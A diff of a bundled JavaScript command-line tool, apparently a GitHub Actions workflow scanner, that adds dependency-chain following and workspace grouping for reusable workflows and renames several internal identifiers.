+  const followed = [];
   for (const target of targets3) {
     if (target.path === STDIN_PATH || target.kind === "dependabot" || target.kind === "lockfile") continue;
     const read = readTargetOf(target);
-    if (read.ok && "text" in read) files.push(parseFile(target.virtual?.repoPath ?? target.path, target.kind, read.text));
+    if (!read.ok || !("text" in read)) continue;
+    const file = parseFile(target.virtual?.repoPath ?? target.path, target.kind, read.text);
+    files.push(file);
+    if (options.followFor?.(target) !== false) followed.push(file);
   }
   const snapshot = await collectSnapshot(files, resolver, { serverUrl });
   if (snapshot.advisoriesSkipped && files.some((file) => file.uses.some((site) => site.reference.kind === "remote"))) {
@@ -23871,6 +24878,16 @@ async function cliOnlineSnapshot(hosts, env, targets3, warn2, resolverOptions = 
       `could not resolve ${failed.length} repositor${failed.length === 1 ? "y" : "ies"} (${name}: ${!result.ok ? result.error.message : ""}${skipped > 0 ? `; ${skipped} not asked because the host was not answering` : ""}); no pin or online check for ${them}`
     );
   }
+  if (options.followDependencies !== false) {
+    const data = new RepoData(resolver, { cacheDir: resolverOptions.cacheDir ?? defaultCliCacheDir(env) });
+    const graph = await walkDependencies(
+      data,
+      followed.flatMap((file) => file.uses.map((site) => site.value)),
+      { serverUrl }
+    );
+    for (const message of graph.stopped) warn2(`dependency chain: ${message}`);
+    options.onDependencies?.(graph);
+  }
   return snapshot;
 }
 
@@ -23885,7 +24902,7 @@ var MAX_REPO_PAGES = 100;
 function repoPath2(owner, repo) {
   return `/repos/${encodeURIComponent(owner)}/${encodeURIComponent(repo)}`;
 }
-async function getJson2(http, path) {
+async function getJson3(http, path) {
   const response = await http.request("api", path, { auth: "bearer", headers: JSON_HEADERS });
   if (!response.ok) return response;
   try {
@@ -23896,7 +24913,7 @@ async function getJson2(http, path) {
 }
 var isObject = (value) => typeof value === "object" && value !== null && !Array.isArray(value);
 async function repositoryInfo(http, owner, repo) {
-  const body = await getJson2(http, repoPath2(owner, repo));
+  const body = await getJson3(http, repoPath2(owner, repo));
   if (!body.ok) {
     if (body.error.kind === "not-found")
       return fail("not-found", `${owner}/${repo} was not found on ${http.api.host} (or it is private and the token cannot read it)`);
@@ -23918,7 +24935,7 @@ function repoFromJson(value) {
 }
 async function gitTree(http, owner, repo, sha, recursive) {
   if (!OBJECT_SHA_RE.test(sha)) return fail("invalid", `\`${sha}\` is not a git object name`);
-  const body = await getJson2(http, `${repoPath2(owner, repo)}/git/trees/${sha}${recursive ? "?recursive=1" : ""}`);
+  const body = await getJson3(http, `${repoPath2(owner, repo)}/git/trees/${sha}${recursive ? "?recursive=1" : ""}`);
   if (!body.ok) {
     if (body.error.kind === "not-found") return fail("not-found", `${owner}/${repo} has no tree or commit ${sha.slice(0, 12)}`);
     return body;
@@ -23941,7 +24958,7 @@ function gitBlobSha1(bytes) {
 }
 async function gitBlob(http, owner, repo, sha) {
   if (!OBJECT_SHA_RE.test(sha)) return fail("invalid", `\`${sha}\` is not a git object name`);
-  const body = await getJson2(http, `${repoPath2(owner, repo)}/git/blobs/${sha}`);
+  const body = await getJson3(http, `${repoPath2(owner, repo)}/git/blobs/${sha}`);
   if (!body.ok) return body;
   const value = body.value.value;
   if (!isObject(value) || typeof value.content !== "string" || value.encoding !== "base64" && value.encoding !== "utf-8")
@@ -24009,7 +25026,7 @@ async function listOwnerRepos(http, owner) {
       break;
     }
     seen.add(page);
-    const body = await getJson2(http, `${base2}&page=${page}`);
+    const body = await getJson3(http, `${base2}&page=${page}`);
     if (!body.ok) {
       if (body.error.kind === "not-found" && page === 1 && !listing.user) {
         listing.user = true;
@@ -24034,7 +25051,7 @@ async function listOwnerRepos(http, owner) {
 
 // server/src/cli/remote.ts
 var REPO_INFO_TTL = 15 * 60 * 1e3;
-var FOREVER = Number.POSITIVE_INFINITY;
+var FOREVER2 = Number.POSITIVE_INFINITY;
 function parseRepoSpec(given) {
   const at = given.indexOf("@");
   const name = at < 0 ? given : given.slice(0, at);
@@ -24195,7 +25212,7 @@ async function scanOne(spec, listed, context) {
     label: `${owner}/${repo}@${commit.slice(0, 7)}`
   };
   const selectionKey = `tree-selection|${http.api.origin}|${repoKey(owner, repo)}|${commit}`;
-  let selection = metadata.get(selectionKey, FOREVER);
+  let selection = metadata.get(selectionKey, FOREVER2);
   if (!selection) {
     const selected = await selectTree(http, owner, repo, commit);
     if (isError(selected)) {
@@ -24209,12 +25226,12 @@ async function scanOne(spec, listed, context) {
   const read = async (sha, size) => {
     if (size !== void 0 && size > MAX_READ_BYTES2) return { tooLarge: size };
     const cached = blobs.get(sha);
-    if (cached) return { text: decode(cached) };
+    if (cached) return { text: decode2(cached) };
     const bytes = unwrap3(await gitBlob(http, owner, repo, sha));
     if (isError(bytes)) return bytes;
     blobs.set(sha, bytes);
     if (bytes.length > MAX_READ_BYTES2) return { tooLarge: bytes.length };
-    return { text: decode(bytes) };
+    return { text: decode2(bytes) };
   };
   const contents = await Promise.all(selection.files.map((file) => read(file.sha, file.size)));
   selection.files.forEach((file, index2) => {
@@ -24362,6 +25379,67 @@ function writeSarifDir(dir, origins, results) {
   return { files, errors };
 }
 
+// server/src/cli/workspace.ts
+var import_node_path11 = require("node:path");
+function ownRoot(path) {
+  const normalized = path.split(import_node_path11.sep).join("/");
+  const match = /^(.*)\/\.github\/(?:workflows\/[^/]+|dependabot\.ya?ml)$/i.exec(normalized);
+  if (!match) return null;
+  return match[1] === "" ? "/" : match[1].split("/").join(import_node_path11.sep);
+}
+function takesPartInCalls(file) {
+  if (file.action) return true;
+  if (file.workflow?.hasTrigger("workflow_call")) return true;
+  return file.uses.some((site) => site.reference.kind === "local" || site.reference.kind === "self");
+}
+function mayUseLocal(text) {
+  return text.includes("./") || text.includes("$/") || text.includes(": .");
+}
+function inside(root, path) {
+  if (path === root) return true;
+  const prefix = root.endsWith(import_node_path11.sep) ? root : root + import_node_path11.sep;
+  return path.startsWith(prefix);
+}
+function buildWorkspaces(parsed, cwd) {
+  const roots = /* @__PURE__ */ new Set();
+  for (const target of parsed.keys()) {
+    if (target.virtual || target.path === STDIN_PATH) continue;
+    const root = ownRoot(target.path);
+    if (root) roots.add(root);
+  }
+  const sortedRoots = [...roots].sort((a, b) => b.length - a.length);
+  const groups = /* @__PURE__ */ new Map();
+  for (const [target, file] of parsed) {
+    if (target.path === STDIN_PATH) continue;
+    let key;
+    let root;
+    if (target.virtual) {
+      key = `virtual:${target.virtual.origin.label}`;
+      root = "";
+    } else {
+      const own = ownRoot(target.path) ?? sortedRoots.find((candidate) => inside(candidate, (0, import_node_path11.dirname)(target.path))) ?? target.rootPath;
+      key = `disk:${own}`;
+      root = displayPath(own, cwd);
+    }
+    let group = groups.get(key);
+    if (!group) groups.set(key, group = { root, members: [] });
+    group.members.push([target, file]);
+  }
+  const views = /* @__PURE__ */ new Map();
+  for (const group of groups.values()) {
+    const files = /* @__PURE__ */ new Map();
+    const view = { root: group.root, files };
+    for (const [, file] of group.members) {
+      if (!takesPartInCalls(file)) continue;
+      const path = workspacePath(view, file);
+      if (path !== null && !files.has(path)) files.set(path, file);
+    }
+    const shared = available(view);
+    for (const [target] of group.members) views.set(target, shared);
+  }
+  return views;
+}
+
 // server/src/cli/run.ts
 var EXIT_OK = 0;
 var EXIT_FINDINGS = 1;
@@ -24389,7 +25467,7 @@ Try '${TOOL_NAME} --help' for more information.
   const specs = [];
   for (const [index2, given] of options.paths.entries()) {
     const firstPart = given.split(/[\\/]/)[0];
-    if (given === STDIN_PATH || index2 >= options.pathsBeforeDashDash || existsOnDisk((0, import_node_path11.resolve)(io.cwd, given)) || firstPart !== "" && existsOnDisk((0, import_node_path11.resolve)(io.cwd, firstPart))) {
+    if (given === STDIN_PATH || index2 >= options.pathsBeforeDashDash || existsOnDisk((0, import_node_path12.resolve)(io.cwd, given)) || firstPart !== "" && existsOnDisk((0, import_node_path12.resolve)(io.cwd, firstPart))) {
       localPaths.push(given);
       continue;
     }
@@ -24434,7 +25512,7 @@ Try '${TOOL_NAME} --help' for more information.
   };
   let globalConfig = null;
   if (options.config !== void 0) {
-    const path = (0, import_node_path11.resolve)(io.cwd, options.config);
+    const path = (0, import_node_path12.resolve)(io.cwd, options.config);
     try {
       (0, import_node_fs12.readFileSync)(path);
     } catch (error) {
@@ -24467,7 +25545,7 @@ Try '${TOOL_NAME} --help' for more information.
       }
       return choice2;
     }
-    const start = target.path === STDIN_PATH ? io.cwd : (0, import_node_path11.dirname)(target.path);
+    const start = target.path === STDIN_PATH ? io.cwd : (0, import_node_path12.dirname)(target.path);
     let found2 = foundByFolder.get(start);
     if (found2 === void 0) {
       const scannedRoot = target.path === STDIN_PATH ? io.cwd : target.rootPath;
@@ -24497,7 +25575,7 @@ Try '${TOOL_NAME} --help' for more information.
 `);
   let hostChoice;
   const hostsOnce = () => hostChoice ??= chooseCliHosts(options, io.env, readUserConfig(userConfigPath(io.env)), note);
-  const cacheDir = options.cacheDir !== void 0 ? (0, import_node_path11.resolve)(io.cwd, options.cacheDir) : defaultCliCacheDir(io.env);
+  const cacheDir = options.cacheDir !== void 0 ? (0, import_node_path12.resolve)(io.cwd, options.cacheDir) : defaultCliCacheDir(io.env);
   if (remoteWanted) {
     const hosts = hostsOnce();
     remote = await scanRemote(specs, options.orgs, {
@@ -24512,6 +25590,7 @@ Try '${TOOL_NAME} --help' for more information.
     targets3.push(...remote.targets);
   }
   let online = false;
+  let dependencies;
   if (wantsOnline(options, io.env)) {
     const hosts = hostsOnce();
     const repositoryConfigs = new Set(
@@ -24523,13 +25602,33 @@ Try '${TOOL_NAME} --help' for more information.
       io.env,
       targets3,
       note,
-      options.cacheDir !== void 0 ? { cacheDir: (0, import_node_path11.resolve)(io.cwd, options.cacheDir) } : {}
+      options.cacheDir !== void 0 ? { cacheDir: (0, import_node_path12.resolve)(io.cwd, options.cacheDir) } : {},
+      {
+        followDependencies: options.followDependencies,
+        followFor: (target) => configFor(target).config?.followDependencies !== false,
+        onDependencies: (graph) => dependencies = graph
+      }
     );
     online = snapshot !== void 0;
     useOnlineSnapshot(snapshot);
   } else {
     useOnlineSnapshot(void 0);
   }
+  useDependencies(dependencies);
+  const reads = /* @__PURE__ */ new Map();
+  const parsedFiles = /* @__PURE__ */ new Map();
+  for (const target of targets3) {
+    if (target.path === STDIN_PATH) continue;
+    const read = readTargetOf(target);
+    reads.set(target, options.fix || !read.ok || !("text" in read) ? read : { ok: true, text: read.text });
+    if (!read.ok || !("text" in read)) continue;
+    const text = read.text;
+    if (target.kind === "action" || target.kind === "workflow" && (text.includes("workflow_call") || mayUseLocal(text))) {
+      const file = parseFile(parsedName(target), target.kind, text);
+      if (takesPartInCalls(file)) parsedFiles.set(target, file);
+    }
+  }
+  const workspaces = buildWorkspaces(parsedFiles, io.cwd);
   const results = [];
   const locks = new LockReader();
   const fixReports = [];
@@ -24543,10 +25642,12 @@ Try '${TOOL_NAME} --help' for more information.
     const relative5 = target.path === STDIN_PATH ? target.displayPath : target.virtual ? target.virtual.repoPath : relativeTo(choice.root, target.path);
     const configured = optionsWithConfig(base2, choice.config, relative5, overrides);
     const current = target;
-    const withLock = (text) => current.path === STDIN_PATH ? configured : {
-      ...configured,
+    const workspace = workspaces.get(target);
+    const withWorkspace = workspace ? { ...configured, views: { ...configured.views, workspace } } : configured;
+    const withLock = (text) => current.path === STDIN_PATH ? withWorkspace : {
+      ...withWorkspace,
       views: {
-        ...configured.views,
+        ...withWorkspace.views,
         lock: current.virtual ? virtualLockView(current.virtual, targets3, text) : locks.viewFor(current.path, current.rootPath, text)
       }
     };
@@ -24555,7 +25656,7 @@ Try '${TOOL_NAME} --help' for more information.
     let read;
     if (target.path === STDIN_PATH) {
       try {
-        read = { ok: true, text: decode(await io.readStdin()) };
+        read = { ok: true, text: decode2(await io.readStdin()) };
       } catch (error) {
         read = {
           ok: false,
@@ -24563,7 +25664,8 @@ Try '${TOOL_NAME} --help' for more information.
         };
       }
     } else {
-      read = readTargetOf(target);
+      read = reads.get(target) ?? readTargetOf(target);
+      reads.delete(target);
     }
     if (target.kindFromContent && read.ok && "text" in read) {
       const content = kindOfContent(read.text);
@@ -24605,7 +25707,8 @@ Try '${TOOL_NAME} --help' for more information.
       }
     }
     if (target.kind === "lockfile" && read.ok && "text" in read) analysisOptions = withLock(read.text);
-    const result = analyzeTarget(target, read, analysisOptions);
+    const result = analyzeTarget(target, read, analysisOptions, parsedFiles.get(target));
+    parsedFiles.delete(target);
     if ("error" in result) errors.push(result.error);
     else {
       separateSuppressed(result, options.noIgnores);
@@ -24620,11 +25723,11 @@ Try '${TOOL_NAME} --help' for more information.
 `);
   const threshold = SEVERITIES.indexOf(effectiveMinSeverity);
   for (const config of usedConfigs) {
-    const findings = configFindings(config).filter((finding) => SEVERITIES.indexOf(finding.severity) >= threshold);
-    if (findings.length === 0) continue;
+    const findings2 = configFindings(config).filter((finding) => SEVERITIES.indexOf(finding.severity) >= threshold);
+    if (findings2.length === 0) continue;
     const fromRepository = remoteConfigs.get(config);
     results.push(
-      fromRepository ? { path: config.path, kind: "config", findings, lines: config.lines, ...fromRepository } : { path: displayPath(config.path, io.cwd), kind: "config", findings, lines: config.lines }
+      fromRepository ? { path: config.path, kind: "config", findings: findings2, lines: config.lines, ...fromRepository } : { path: displayPath(config.path, io.cwd), kind: "config", findings: findings2, lines: config.lines }
     );
   }
   sortResults(results);
@@ -24651,7 +25754,7 @@ Try '${TOOL_NAME} --help' for more information.
     );
   }
   if (options.sarifDir !== void 0 && remote) {
-    const written = writeSarifDir((0, import_node_path11.resolve)(io.cwd, options.sarifDir), remote.origins, results);
+    const written = writeSarifDir((0, import_node_path12.resolve)(io.cwd, options.sarifDir), remote.origins, results);
     errors.push(...written.errors);
     if (written.files.length > 0)
       note(`wrote ${written.files.length} SARIF ${written.files.length === 1 ? "file" : "files"} into ${options.sarifDir}`);
@@ -24728,15 +25831,15 @@ function fixToFixpoint(target, text, options, mode) {
   const fixedRules = /* @__PURE__ */ new Map();
   let current = text;
   for (let round = 0; round < MAX_FIX_ROUNDS; round++) {
-    const { findings } = analyzeText(target.displayPath, target.kind, current, options);
-    const edits = fixAllEdits(findings, accept);
+    const { findings: findings2 } = analyzeText(target.displayPath, target.kind, current, options);
+    const edits = fixAllEdits(findings2, accept);
     if (edits.length === 0) break;
     const next = applyEdits(current, edits);
     if (next === current) break;
     const after = new Set(
       analyzeText(target.displayPath, target.kind, next, options).findings.map((finding) => `${finding.ruleId}\0${finding.message}`)
     );
-    for (const finding of findings) {
+    for (const finding of findings2) {
       if (finding.fixes.some(accept) && !after.has(`${finding.ruleId}\0${finding.message}`))
         fixedRules.set(finding.ruleId, (fixedRules.get(finding.ruleId) ?? 0) + 1);
     }
